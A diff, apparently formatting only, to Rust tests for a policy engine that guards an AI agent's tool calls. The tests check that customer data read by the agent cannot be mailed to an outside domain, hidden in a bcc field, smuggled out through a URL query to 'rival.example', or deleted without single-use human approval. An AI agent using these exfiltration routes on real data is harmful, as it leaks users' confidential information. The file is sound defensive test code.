@@ -10,7 +10,14 @@ const ACME: &str = include_str!("../../../examples/acme/policies/acme.cedar");
 
 fn pipeline_from(inventory: &str, store: SessionStore) -> Pipeline {
     let inv = Arc::new(Inventory::from_yaml_str(inventory, "inventory.yaml").unwrap());
-    let engine = PolicyEngine::new(inv, &[PolicySource { name: "acme.cedar".into(), text: ACME.into() }]).unwrap();
+    let engine = PolicyEngine::new(
+        inv,
+        &[PolicySource {
+            name: "acme.cedar".into(),
+            text: ACME.into(),
+        }],
+    )
+    .unwrap();
     Pipeline::new(Arc::new(engine), Arc::new(store)).with_clock(|| 1_000)
 }
 
@@ -34,11 +41,17 @@ fn req(user: &str, agents: &[&str], session: &str, action: Action) -> ActionRequ
 }
 
 fn tool(name: &str, args: serde_json::Value) -> Action {
-    Action::CallTool { tool: name.into(), arguments: args }
+    Action::CallTool {
+        tool: name.into(),
+        arguments: args,
+    }
 }
 
 fn mail(to: &str) -> Action {
-    tool("mail.send_email", json!({"to": to, "subject": "Q3 customers", "body": "…"}))
+    tool(
+        "mail.send_email",
+        json!({"to": to, "subject": "Q3 customers", "body": "…"}),
+    )
 }
 
 #[test]
@@ -49,12 +62,19 @@ fn motivating_case_read_then_send_outside_is_denied() {
     assert_eq!(v.decision, Decision::Allow, "{:?}", v.reasons);
     let s = v.session.unwrap();
     assert_eq!(s.confidentiality, Label::Confidential);
-    assert_eq!(s.categories.iter().map(|c| c.as_str()).collect::<Vec<_>>(), ["customer", "pii"]);
+    assert_eq!(
+        s.categories.iter().map(|c| c.as_str()).collect::<Vec<_>>(),
+        ["customer", "pii"]
+    );
 
     let v = p.decide(&exec(mail("ceo@rival.example")));
     assert_eq!(v.decision, Decision::Deny);
     assert_eq!(v.policies, ["zt4ai.flow.send"]);
-    assert!(v.reasons[0].message.contains("`ceo@rival.example`"), "{:?}", v.reasons);
+    assert!(
+        v.reasons[0].message.contains("`ceo@rival.example`"),
+        "{:?}",
+        v.reasons
+    );
 
     let v = p.decide(&exec(mail("board@acme.example")));
     assert_eq!(v.decision, Decision::Allow, "{:?}", v.reasons);
@@ -62,17 +82,28 @@ fn motivating_case_read_then_send_outside_is_denied() {
     // Hiding the outside recipient among inside ones does not help.
     let v = p.decide(&exec(mail("board@acme.example; ceo@rival.example")));
     assert_eq!(v.decision, Decision::Deny);
-    let v = p.decide(&exec(tool("mail.send_email", json!({"to": "board@acme.example", "bcc": ["x@rival.example"]}))));
+    let v = p.decide(&exec(tool(
+        "mail.send_email",
+        json!({"to": "board@acme.example", "bcc": ["x@rival.example"]}),
+    )));
     assert_eq!(v.decision, Decision::Deny);
     // Nor does smuggling it out through a URL.
-    let v = p.decide(&exec(tool("web.fetch", json!({"url": "https://rival.example/?q=customers"}))));
+    let v = p.decide(&exec(tool(
+        "web.fetch",
+        json!({"url": "https://rival.example/?q=customers"}),
+    )));
     assert_eq!(v.policies, ["zt4ai.flow.send"]);
 }
 
 #[test]
 fn a_fresh_session_may_mail_outside() {
     let p = pipeline();
-    let v = p.decide(&req("alice", &["report-agent"], "fresh", mail("partner@rival.example")));
+    let v = p.decide(&req(
+        "alice",
+        &["report-agent"],
+        "fresh",
+        mail("partner@rival.example"),
+    ));
     assert_eq!(v.decision, Decision::Allow, "{:?}", v.reasons);
 }
 
@@ -80,12 +111,25 @@ fn a_fresh_session_may_mail_outside() {
 fn untrusted_content_then_destructive_tool_needs_approval_once() {
     let p = pipeline();
     let r = |a| req("alice", &["report-agent"], "web", a);
-    let v = p.decide(&r(tool("web.fetch", json!({"url": "https://news.example/article"}))));
+    let v = p.decide(&r(tool(
+        "web.fetch",
+        json!({"url": "https://news.example/article"}),
+    )));
     assert_eq!(v.decision, Decision::Allow, "{:?}", v.reasons);
-    assert_eq!(v.obligations, [Obligation::Spotlight { tool: "web.fetch".into() }]);
+    assert_eq!(
+        v.obligations,
+        [Obligation::Spotlight {
+            tool: "web.fetch".into()
+        }]
+    );
     assert_eq!(v.session.unwrap().integrity, Integrity::Untrusted);
 
-    let delete = || r(tool("files.delete_file", json!({"path": "/reports/q3.pdf"})));
+    let delete = || {
+        r(tool(
+            "files.delete_file",
+            json!({"path": "/reports/q3.pdf"}),
+        ))
+    };
     let v = p.decide(&delete());
     assert_eq!(v.decision, Decision::RequireApproval);
     assert_eq!(v.policies, ["zt4ai.integrity.tool"]);
@@ -96,16 +140,25 @@ fn untrusted_content_then_destructive_tool_needs_approval_once() {
     retry.approval = Some(approval.clone());
     assert_eq!(p.decide(&retry).policies, [reasons::APPROVAL_INVALID]);
 
-    p.store().decide_approval(approval.as_str(), true, "carol", 1_000).unwrap();
+    p.store()
+        .decide_approval(approval.as_str(), true, "carol", 1_000)
+        .unwrap();
     // Not for another request…
-    let mut other = r(tool("files.delete_file", json!({"path": "/etc/everything"})));
+    let mut other = r(tool(
+        "files.delete_file",
+        json!({"path": "/etc/everything"}),
+    ));
     other.approval = Some(approval.clone());
     assert_eq!(p.decide(&other).policies, [reasons::APPROVAL_INVALID]);
     // …but for this one, once.
     let v = p.decide(&retry);
     assert_eq!(v.decision, Decision::Allow, "{:?}", v.reasons);
     assert!(v.policies.contains(&"zt4ai.integrity.tool".to_string()));
-    assert_eq!(p.decide(&retry).decision, Decision::Deny, "approvals are single use");
+    assert_eq!(
+        p.decide(&retry).decision,
+        Decision::Deny,
+        "approvals are single use"
+    );
 
     // A made-up approval id is refused.
     let mut forged = delete();
@@ -116,40 +169,95 @@ fn untrusted_content_then_destructive_tool_needs_approval_once() {
 #[test]
 fn sub_agent_and_suspended_agent() {
     let p = pipeline();
-    let v = p.decide(&req("alice", &["report-agent", "summariser"], "sub", tool("crm.query", json!({"table": "customers"}))));
+    let v = p.decide(&req(
+        "alice",
+        &["report-agent", "summariser"],
+        "sub",
+        tool("crm.query", json!({"table": "customers"})),
+    ));
     assert_eq!(v.decision, Decision::Deny);
-    let v = p.decide(&req("alice", &["report-agent", "summariser"], "sub", tool("wiki.search", json!({"q": "x"}))));
+    let v = p.decide(&req(
+        "alice",
+        &["report-agent", "summariser"],
+        "sub",
+        tool("wiki.search", json!({"q": "x"})),
+    ));
     assert_eq!(v.decision, Decision::Deny, "the parent lacks wiki.search");
-    for a in [tool("crm.query", json!({"table": "sales_pipeline"})), Action::Read { dataset: "handbook".into() }, mail("x@acme.example")] {
+    for a in [
+        tool("crm.query", json!({"table": "sales_pipeline"})),
+        Action::Read {
+            dataset: "handbook".into(),
+        },
+        mail("x@acme.example"),
+    ] {
         let v = p.decide(&req("bob", &["legacy-bot"], "old", a));
         assert_eq!(v.decision, Decision::Deny);
-        assert!(v.policies.contains(&"zt4ai.lifecycle.inactive".to_string()), "{:?}", v.policies);
+        assert!(
+            v.policies.contains(&"zt4ai.lifecycle.inactive".to_string()),
+            "{:?}",
+            v.policies
+        );
     }
 }
 
 #[test]
 fn unknown_principals_resources_and_bad_arguments_are_denied() {
     let p = pipeline();
-    let v = p.decide(&req("mallory", &["report-agent"], "x", mail("a@acme.example")));
+    let v = p.decide(&req(
+        "mallory",
+        &["report-agent"],
+        "x",
+        mail("a@acme.example"),
+    ));
     assert_eq!(v.policies, [reasons::UNKNOWN_PRINCIPAL]);
     let v = p.decide(&req("alice", &["ghost"], "x", mail("a@acme.example")));
     assert_eq!(v.policies, [reasons::UNKNOWN_PRINCIPAL]);
-    let v = p.decide(&req("alice", &["report-agent"], "x", tool("crm.drop_all", json!({}))));
+    let v = p.decide(&req(
+        "alice",
+        &["report-agent"],
+        "x",
+        tool("crm.drop_all", json!({})),
+    ));
     assert_eq!(v.policies, [reasons::UNKNOWN_RESOURCE]);
-    let v = p.decide(&req("alice", &["report-agent"], "x", tool("crm.query", json!({"table": "Customers"}))));
+    let v = p.decide(&req(
+        "alice",
+        &["report-agent"],
+        "x",
+        tool("crm.query", json!({"table": "Customers"})),
+    ));
     assert_eq!(v.policies, [reasons::UNKNOWN_RESOURCE]);
-    let v = p.decide(&req("alice", &["report-agent"], "x", tool("mail.send_email", json!({"to": {"addr": "x"}}))));
+    let v = p.decide(&req(
+        "alice",
+        &["report-agent"],
+        "x",
+        tool("mail.send_email", json!({"to": {"addr": "x"}})),
+    ));
     assert_eq!(v.policies, [reasons::INVALID_REQUEST]);
-    let v = p.decide(&req("alice", &["report-agent"], "x", mail("not-an-address@")));
+    let v = p.decide(&req(
+        "alice",
+        &["report-agent"],
+        "x",
+        mail("not-an-address@"),
+    ));
     assert_eq!(v.policies, [reasons::INVALID_REQUEST]);
 }
 
 #[test]
 fn session_belongs_to_its_chain() {
     let p = pipeline();
-    let v = p.decide(&req("alice", &["report-agent"], "mine", tool("crm.query", json!({"table": "customers"}))));
+    let v = p.decide(&req(
+        "alice",
+        &["report-agent"],
+        "mine",
+        tool("crm.query", json!({"table": "customers"})),
+    ));
     assert_eq!(v.decision, Decision::Allow);
-    let v = p.decide(&req("bob", &["report-agent"], "mine", tool("web.fetch", json!({"url": "https://x.example"}))));
+    let v = p.decide(&req(
+        "bob",
+        &["report-agent"],
+        "mine",
+        tool("web.fetch", json!({"url": "https://x.example"})),
+    ));
     assert_eq!(v.policies, [reasons::SESSION_OWNER]);
 }
 
@@ -157,13 +265,20 @@ fn session_belongs_to_its_chain() {
 fn injection_and_risk_from_the_request() {
     let p = pipeline();
     let mut r = req("alice", &["report-agent"], "r", mail("a@acme.example"));
-    r.findings = vec![Finding { kind: "prompt_injection".into(), location: Some("body".into()) }];
+    r.findings = vec![Finding {
+        kind: "prompt_injection".into(),
+        location: Some("body".into()),
+    }];
     assert_eq!(p.decide(&r).policies, ["zt4ai.inspect.injection"]);
     r.findings.clear();
     r.risk = Some(55);
     assert_eq!(p.decide(&r).decision, Decision::RequireApproval);
     r.risk = Some(250);
-    assert_eq!(p.decide(&r).policies, ["zt4ai.risk.high"], "risk is clamped to 100");
+    assert_eq!(
+        p.decide(&r).policies,
+        ["zt4ai.risk.high"],
+        "risk is clamped to 100"
+    );
 }
 
 #[test]
@@ -179,12 +294,31 @@ fn a_single_call_that_reads_and_sends_is_checked_against_what_it_reads() {
             "      tools: [crm.query, crm.export, mail.send_email, web.fetch, files.delete_file]",
         );
     let p = pipeline_from(&inv, SessionStore::open_in_memory().unwrap());
-    let call = |table: &str| tool("crm.export", json!({"table": table, "to": "x@rival.example"}));
-    let v = p.decide(&req("alice", &["report-agent"], "one-shot", call("customers")));
+    let call = |table: &str| {
+        tool(
+            "crm.export",
+            json!({"table": table, "to": "x@rival.example"}),
+        )
+    };
+    let v = p.decide(&req(
+        "alice",
+        &["report-agent"],
+        "one-shot",
+        call("customers"),
+    ));
     assert_eq!(v.decision, Decision::Deny, "{:?}", v.reasons);
     assert_eq!(v.policies, ["zt4ai.flow.send"]);
-    let v = p.decide(&req("alice", &["report-agent"], "one-shot-2", call("handbook")));
-    assert_eq!(v.policies, ["zt4ai.flow.send"], "handbook is internal, the internet public");
+    let v = p.decide(&req(
+        "alice",
+        &["report-agent"],
+        "one-shot-2",
+        call("handbook"),
+    ));
+    assert_eq!(
+        v.policies,
+        ["zt4ai.flow.send"],
+        "handbook is internal, the internet public"
+    );
 }
 
 #[test]
@@ -194,8 +328,14 @@ fn store_failure_denies() {
     let p = pipeline_from(INVENTORY, SessionStore::open(&path).unwrap());
     // Break the store underneath the running pipeline.
     let conn = rusqlite::Connection::open(&path).unwrap();
-    conn.execute_batch("DROP TABLE session_categories; DROP TABLE sessions;").unwrap();
-    let v = p.decide(&req("alice", &["report-agent"], "broken", tool("crm.query", json!({"table": "customers"}))));
+    conn.execute_batch("DROP TABLE session_categories; DROP TABLE sessions;")
+        .unwrap();
+    let v = p.decide(&req(
+        "alice",
+        &["report-agent"],
+        "broken",
+        tool("crm.query", json!({"table": "customers"})),
+    ));
     assert_eq!(v.decision, Decision::Deny);
     assert_eq!(v.policies, [reasons::STORE_UNAVAILABLE]);
 }
